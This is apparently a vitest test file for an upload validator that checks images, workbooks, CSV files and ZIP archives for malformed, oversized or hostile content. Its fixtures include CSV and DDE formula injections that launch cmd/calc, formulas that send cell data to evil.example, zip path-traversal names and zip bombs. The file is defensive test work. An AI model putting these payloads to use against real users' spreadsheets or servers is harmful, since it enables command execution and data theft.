import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import type { DocumentProblem } from '../../relay/intake/documents/document-problem.ts'
import { documentTypes } from '../../relay/intake/documents/document-types.ts'
import { createSampleDocument } from '../../src/forms/sample-submission.ts'
import { archive, doc, encrypted, exe, office, pdf, repeatEntries } from './documents.ts'

const MB = 1024 * 1024
type Type = keyof typeof documentTypes
type Expected = DocumentProblem | undefined
type Case = [Expected, string, Buffer]

/** Files that other programs wrote. Their names say which. */
const folder = path.join(import.meta.dirname, 'uploads')
const written = (type: Type, name: string) => readFileSync(path.join(folder, type, `${name}.${type}`))

/** @param onRead called with the length of each read */
function check(type: Type, bytes: Buffer, onRead: (length: number) => void = () => {}) {
  const read = async (position: number, length: number) => {
    onRead(length)
    return bytes.subarray(position, position + length)
  }
  return documentTypes[type].findProblem({ size: bytes.length, read, close: async () => {} })
}

/** Replaces text in a file by text of the same length. */
function replaced(bytes: Buffer, old: string, text: string): Buffer {
  const found = bytes.toString('latin1').replaceAll(old, text)
  if (old.length !== text.length || !bytes.includes(old, 0, 'latin1')) throw new Error(`cannot replace ${old}`)
  return Buffer.from(found, 'latin1')
}

/** Returns a box of a HEIC file. */
function box(type: string, content: Buffer | string): Buffer {
  const bytes = Buffer.concat([Buffer.alloc(4), Buffer.from(type), Buffer.from(content)])
  bytes.writeUInt32BE(bytes.length, 0)
  return bytes
}

/** Returns a chunk of a PNG. Its checksum is wrong, which the relay does not check. */
function chunk(type: string, content = Buffer.alloc(0)): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length, 0)
  return Buffer.concat([length, Buffer.from(type), content, Buffer.alloc(4)])
}

/** Writes a 32-bit number in big-endian order. */
function patched(bytes: Buffer, at: number, ...values: number[]): Buffer {
  const copy = Buffer.from(bytes)
  for (const [index, value] of values.entries()) copy.writeUInt32BE(value, at + 4 * index)
  return copy
}

const html = Buffer.from('<!DOCTYPE html><script>alert(1)</script>')
const zipped = archive({ 'a.txt': 'text' })
const foreign: [string, Buffer][] = [
  ['a ZIP archive', zipped],
  ['an HTML page', html],
  ['a program', exe()],
]
const append = (bytes: Buffer, problem: Expected) =>
  foreign.map(([name, more]): Case => [problem, `an image followed by ${name}`, Buffer.concat([bytes, more])])
const mislabeled = (...others: Type[]): Case[] => [
  ...foreign.map(([name, bytes]): Case => ['type', name, bytes]),
  ...others.map(
    (type): Case => [
      'type',
      `a ${type} file`,
      written(type, readdirSync(path.join(folder, type))[0]?.split('.')[0] ?? ''),
    ],
  ),
]

const jpg = written('jpg', 'imagemagick')
const frame = jpg.indexOf(Buffer.from([0xff, 0xc0]))
const png = written('png', 'imagemagick')
const heic = written('heic', 'heif-enc')
const size = heic.indexOf('ispe') + 8
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
const workbookTypes = (more = '') =>
  `<Types><Override PartName="/xl/workbook.xml" ContentType="${sheet}.sheet.main+xml"/>${more}</Types>`
const workbook = (more: Record<string, string | Buffer> = {}, types = '') =>
  archive({ '[Content_Types].xml': workbookTypes(types), 'xl/workbook.xml': '<workbook/>', ...more })
const rels = (type: string, target: string, more = '') => ({
  'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`,
})
const external = 'TargetMode="External"'
const link = (xml: string) => ({ 'xl/externalLinks/externalLink1.xml': `<externalLink>${xml}</externalLink>` })
const csv = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding)
/** A ZIP archive with one entry that has this name. */
const entry = (name: string) => replaced(archive({ ['x'.repeat(name.length)]: 'text' }), 'x'.repeat(name.length), name)
const bomb = archive({ 'a.txt': Buffer.alloc(MB) })
const bombSize = bomb.indexOf('PK\x01\x02', 0, 'latin1') + 24
const sized = (bytes: number) => {
  const copy = Buffer.from(bomb)
  copy.writeUInt32LE(bytes, bombSize)
  return copy
}

/** A ZIP archive whose entries all use the same compressed data, which consist of empty blocks. */
function entriesWithoutContent(count: number): Buffer {
  const data = Buffer.alloc(20 * MB, Buffer.from('000000ffff', 'hex'))
  const [local, directory, end] = [Buffer.alloc(31, 'a'), Buffer.alloc(47, 'a'), Buffer.alloc(22)]
  for (const [header, mark, length] of [
    [local, 0x04034b50, 30],
    [directory, 0x02014b50, 46],
    [end, 0x06054b50, 22],
  ] as const) {
    header.fill(0, 0, length)
    header.writeUInt32LE(mark, 0)
  }
  for (const [header, at] of [
    [local, 8],
    [directory, 10],
  ] as const) {
    header.writeUInt16LE(8, at)
    header.writeUInt32LE(data.length, at + 10)
    header.writeUInt16LE(1, at + 18)
  }
  for (const at of [8, 10]) end.writeUInt16LE(count, at)
  end.writeUInt32LE(count * directory.length, 12)
  end.writeUInt32LE(local.length + data.length, 16)
  return Buffer.concat([local, data, ...Array<Buffer>(count).fill(directory), end])
}

const cases: Record<'jpg' | 'png' | 'heic' | 'xlsx' | 'csv' | 'zip', Case[]> = {
  jpg: [
    [undefined, 'a photo with a preview after it', Buffer.concat([jpg, jpg])],
    [
      undefined,
      'a motion photo',
      Buffer.concat([jpg, box('ftyp', 'mp42\0\0\0\0isom'), box('mdat', Buffer.alloc(99, 7))]),
    ],
    [
      undefined,
      'a photo of a Samsung phone',
      Buffer.concat([jpg, Buffer.from('\0\0\x01\x0aImage_UTC_Data1700000000SEFT')]),
    ],
    [undefined, 'a photo with padding of ones', Buffer.concat([jpg, Buffer.alloc(426, 0xff)])],
    [
      undefined,
      'a photo with segments of 64 KB',
      Buffer.concat([
        jpg.subarray(0, 2),
        ...Array<Buffer>(3).fill(Buffer.concat([Buffer.from('ffe2fffe', 'hex'), Buffer.alloc(0xfffc, 0xff)])),
        jpg.subarray(2),
      ]),
    ],
    ...mislabeled('png', 'heic', 'xlsx'),
    ...append(jpg, 'type'),
    ['damaged', 'a truncated photo', jpg.subarray(0, -2)],
    ['damaged', 'a photo that ends in a segment', jpg.subarray(0, frame + 6)],
    ['damaged', 'a photo without an image', Buffer.from('ffd8ffd9', 'hex')],
    ['damaged', 'a photo of 0 x 0 pixels', patched(jpg, frame + 5, 0)],
    ['complex', 'a photo of 65,535 x 65,535 pixels', patched(jpg, frame + 5, 0xffffffff)],
    [
      'complex',
      'a photo of 500,000 segments',
      Buffer.concat([jpg.subarray(0, 2), Buffer.alloc(2 * MB, Buffer.from('ffe00002', 'hex')), jpg.subarray(2)]),
    ],
  ],
  png: [
    [undefined, 'a screenshot after which an earlier one remains', Buffer.concat([png, png.subarray(60)])],
    ...mislabeled('jpg', 'heic', 'xlsx'),
    ...append(png, 'type'),
    ['damaged', 'a truncated image', png.subarray(0, -6)],
    ['damaged', 'an image without its last chunk', png.subarray(0, -12)],
    ['damaged', 'an image without its size', Buffer.concat([png.subarray(0, 8), chunk('IEND')])],
    ['damaged', 'an image of 0 x 16 pixels', patched(png, 16, 0)],
    ['damaged', 'a chunk longer than the file', patched(png, 8, 0xffffffff)],
    ['complex', 'an image of 30,000 x 30,000 pixels', patched(png, 16, 30_000, 30_000)],
    [
      'complex',
      'an image of 170,000 chunks',
      Buffer.concat([png.subarray(0, 33), Buffer.alloc(2 * MB, chunk('tEXt')), png.subarray(33)]),
    ],
  ],
  heic: [
    [
      undefined,
      'an image with a data box of 64-bit size',
      Buffer.concat([
        box('ftyp', 'mif1\0\0\0\0mif1heic'),
        heic.subarray(heic.readUInt32BE(0), heic.indexOf('mdat') - 4),
        Buffer.from('000000016d646174000000000000001800', 'hex'),
        Buffer.alloc(7, 7),
      ]),
    ],
    [undefined, 'an image whose data extend to the end', patched(heic, heic.indexOf('mdat') - 4, 0)],
    ...mislabeled('jpg', 'png', 'xlsx'),
    ['type', 'an AVIF image', replaced(replaced(heic, 'ftypheic', 'ftypavif'), 'mif1heic', 'mif1avif')],
    ['type', 'a video', Buffer.concat([box('ftyp', 'mp42\0\0\0\0isom'), box('moov', 'x'.repeat(99))])],
    ...append(heic, 'damaged'),
    ['damaged', 'a truncated image', heic.subarray(0, -9)],
    [
      'damaged',
      'an image without its description',
      Buffer.concat([box('ftyp', 'heic\0\0\0\0mif1heic'), box('mdat', 'x'.repeat(99))]),
    ],
    ['damaged', 'a box of 4 bytes', patched(heic, heic.readUInt32BE(0), 4)],
    ['complex', 'an image of 60,000 x 60,000 pixels', patched(heic, size + 0, 60_000, 60_000)],
    [
      'complex',
      'an image of 260,000 boxes',
      Buffer.concat([heic.subarray(0, heic.readUInt32BE(0)), Buffer.alloc(2 * MB, box('free', '')), heic]),
    ],
  ],
  xlsx: [
    [undefined, 'a link to a web page', workbook(rels('hyperlink', 'https://shop.example', external))],
    [
      undefined,
      'a link to a workbook on the same disk',
      workbook({ ...rels('externalLinkPath', 'file:///C:\\Prices.xlsx', external), ...link('<externalBook/>') }),
    ],
    [
      undefined,
      'an extension of macros that no part has',
      workbook({}, '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'),
    ],
    ...mislabeled('png', 'csv', 'zip'),
    ['type', 'a Word document', office('docx')],
    ['type', 'an Excel 97-2003 workbook', doc({ stream: 'Workbook' })],
    ['macros', 'a workbook with macros', workbook({ 'xl/vbaProject.bin': 'macro' })],
    [
      'macros',
      'a part with an extension of macros',
      workbook({ 'xl/x.bin': 'x' }, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      'macros',
      'a sheet with Excel 4.0 macros',
      workbook(
        { 'xl/m.xml': '<x/>' },
        '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
      ),
    ],
    ['external', 'a link that starts a program', workbook(link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'))],
    [
      'external',
      'a link that starts a program, in a part with another name',
      workbook(
        { 'xl/a.xml': '<x:oleLink/>' },
        `<Override PartName="/xl/a.xml" ContentType="${sheet}.externalLink+xml"/>`,
      ),
    ],
    [
      'external',
      'a link to a workbook on a file server',
      workbook(rels('externalLinkPath', 'file:///\\\\evil\\a.xlsx', external)),
    ],
    ['embedded', 'an embedded program', workbook(rels('package', '../embeddings/run.exe'))],
    ['embedded', 'an embedded control', workbook(rels('control', '../activeX/activeX1.xml'))],
    ['password', 'a workbook with a password', doc({ stream: 'EncryptedPackage' })],
    ['password', 'an encrypted archive', encrypted(workbook())],
    ['damaged', 'a truncated workbook', workbook().subarray(0, 200)],
    ['damaged', 'a workbook without its main part', archive({ '[Content_Types].xml': workbookTypes() })],
    ['complex', 'a part of 9 MB', workbook(link(' '.repeat(9 * MB)))],
  ],
  csv: [
    [undefined, 'numbers that begin with a sign', csv('"sep=;"\r\n-5;+49 40 123;-12,5 %;@ada;=1+2;="007"\r\n')],
    [
      undefined,
      'text with separators',
      csv("name,text\nA,\"- red | blue\n- Free | Save 10%! Now\"\nB,it's | 'quoted'\n"),
    ],
    [undefined, 'a column that begins with a sign of HTML', csv('<DATE>,<OPEN>\n20261101,1.2\n')],
    [
      undefined,
      'the text of a formula in a cell of an export',
      csv('=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"")"),1)\n'),
    ],
    [undefined, 'the mark that ends files in DOS', csv('a,b\r\n1,2\r\n\x1a')],
    ...mislabeled('jpg', 'png', 'xlsx'),
    ['type', 'a PDF', pdf()],
    ['type', 'an HTML page after a byte order mark', csv('\ufeff\n<HTML><table>')],
    ['type', 'RTF', csv('{\\rtf1 a,b}')],
    ['type', 'text with NUL', csv('a,b\n1,\0\n')],
    ['type', 'UTF-16 without a byte order mark', csv('a,b\n1,2\n', 'utf16le')],
    ['external', 'a formula that starts a program', csv("a,b\n=cmd|'/C calc'!A0,1\n")],
    ['external', 'a quoted formula that starts a program', csv('a;"+1+cmd |  \'/C ""calc"", x\' !A0"\n')],
    ['external', 'a formula that starts Excel', csv("@SUM(1)*MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''\n")],
    ['external', 'a formula without quotation marks', csv('=cmd|calc.exe!A0\n')],
    ['external', 'a function of LibreOffice that starts a program', csv('=DDE("soffice";"x";"y")\n')],
    ['external', 'a function that sends data', csv('a,=WEBSERVICE("https://evil.example?"&A1)\n')],
    [
      'external',
      'a function of Google Sheets that sends data',
      csv('=1+importxml(CONCAT("https://evil.example?",A1),"//a")\n'),
    ],
    ['external', 'a formula in UTF-16', csv("\ufeffa\t=cmd|'/C calc'!A0\n", 'utf16le')],
    ['external', 'a formula between two reads of the file', csv(`${'x,\n'.repeat(21_842)}=cmd|'/C calc'!A0\n`)],
    ['complex', 'a line of 2 MB', csv('x'.repeat(2 * MB))],
  ],
  zip: [
    [undefined, 'a folder with the name of a domain', entry('brand.com/logo.png')],
    [undefined, 'a file with the name of a domain in its name', entry('brand.com report.pdf')],
    [undefined, 'a Word document', office('docx')],
    ...mislabeled('jpg', 'csv').filter(([, name]) => name !== 'a ZIP archive'),
    ['type', 'an archive that unpacks itself', Buffer.concat([exe(), zipped])],
    ...[
      'run.exe',
      'photo.jpg.scr',
      'a/SETUP.MSI',
      'read me.js',
      'run.bat. .',
      'run.exe:x',
      'b.docm',
      'Tool.app/Contents/run',
      'inner.zip',
      'a.tar.gz',
    ].map((name): Case => ['embedded', `an entry ${name}`, entry(name)]),
    ...['../../a.txt', '/etc/a.txt', 'C:/a.txt', '..\\..\\a.txt'].map(
      (name): Case => ['damaged', `an entry ${name}`, entry(name)],
    ),
    ['embedded', 'a symbolic link', patched(zipped, zipped.indexOf('PK\x01\x02', 0, 'latin1') + 38, 0x0000ffa1)],
    ['password', 'an encrypted archive', encrypted(zipped)],
    ['complex', 'an archive that declares 300 MB', sized(300 * MB)],
    ['damaged', 'an archive that unpacks to more than it declares', sized(100)],
    [
      'complex',
      '300 entries that share 1 MB',
      repeatEntries(archive({ 'a.txt': Buffer.alloc(MB), 'b.txt': 'b' }), 300),
    ],
    ['complex', '20 entries that share 20 MB of compressed data without content', entriesWithoutContent(20)],
    ['complex', '2,500 entries', repeatEntries(archive({ 'a.txt': 'a', 'b.txt': 'b' }), 2500)],
    ['damaged', 'a truncated archive', zipped.subarray(0, 60)],
  ],
}

describe.each(Object.entries(cases) as [keyof typeof cases, Case[]][])('a %s file', (type, others) => {
  test('is accepted from each of at least eight programs, and as the sample of a test submission', async () => {
    const names = readdirSync(path.join(folder, type)).map((name) => path.parse(name).name)
    const problems = await Promise.all(names.map(async (name) => [name, await check(type, written(type, name))]))
    expect(problems.filter(([, problem]) => problem)).toEqual([])
    expect(names.length).toBeGreaterThanOrEqual(8)
    const sample = createSampleDocument([type], 0)
    expect(await check(type, Buffer.from(await sample.arrayBuffer()))).toBeUndefined()
  })

  test.each(others)('has the problem %s if it is %s', async (problem, _name, bytes) => {
    expect(await check(type, bytes)).toBe(problem)
  })
})

describe('a file of 20 MB', () => {
  test.each<[string, Type, Buffer]>([
    ['other data after the image', 'jpg', Buffer.concat([jpg, Buffer.alloc(20 * MB, 7)])],
    [
      'compressed data without an end',
      'jpg',
      Buffer.concat([jpg.subarray(0, -2), Buffer.alloc(20 * MB, Buffer.from('ff00', 'hex'))]),
    ],
    [
      'segments without content',
      'jpg',
      Buffer.concat([jpg.subarray(0, 2), Buffer.alloc(20 * MB, Buffer.from('ffe00002', 'hex'))]),
    ],
    ['chunks without content', 'png', Buffer.concat([png.subarray(0, 33), Buffer.alloc(20 * MB, chunk('tEXt'))])],
    [
      'boxes without content',
      'heic',
      Buffer.concat([heic.subarray(0, heic.readUInt32BE(0)), Buffer.alloc(20 * MB, box('free', ''))]),
    ],
    ['pipes and quotation marks', 'csv', Buffer.alloc(20 * MB, "|''|\n")],
    ['spaces after pipes', 'csv', Buffer.alloc(20 * MB, `|${' '.repeat(98)}`)],
    ['line breaks', 'csv', Buffer.alloc(20 * MB, '\n')],
    ['zeros after an archive', 'zip', Buffer.concat([zipped, Buffer.alloc(20 * MB)])],
  ])(
    'with %s is checked in pieces of at most 128 KB, each of which is read at most twice',
    async (_name, type, bytes) => {
      const lengths: number[] = []
      await check(type, bytes, (length) => void lengths.push(length))
      expect(Math.max(...lengths)).toBeLessThanOrEqual(128 * 1024)
      expect(lengths.reduce((sum, length) => sum + length, 0)).toBeLessThanOrEqual(2 * bytes.length + MB)
    },
  )
})
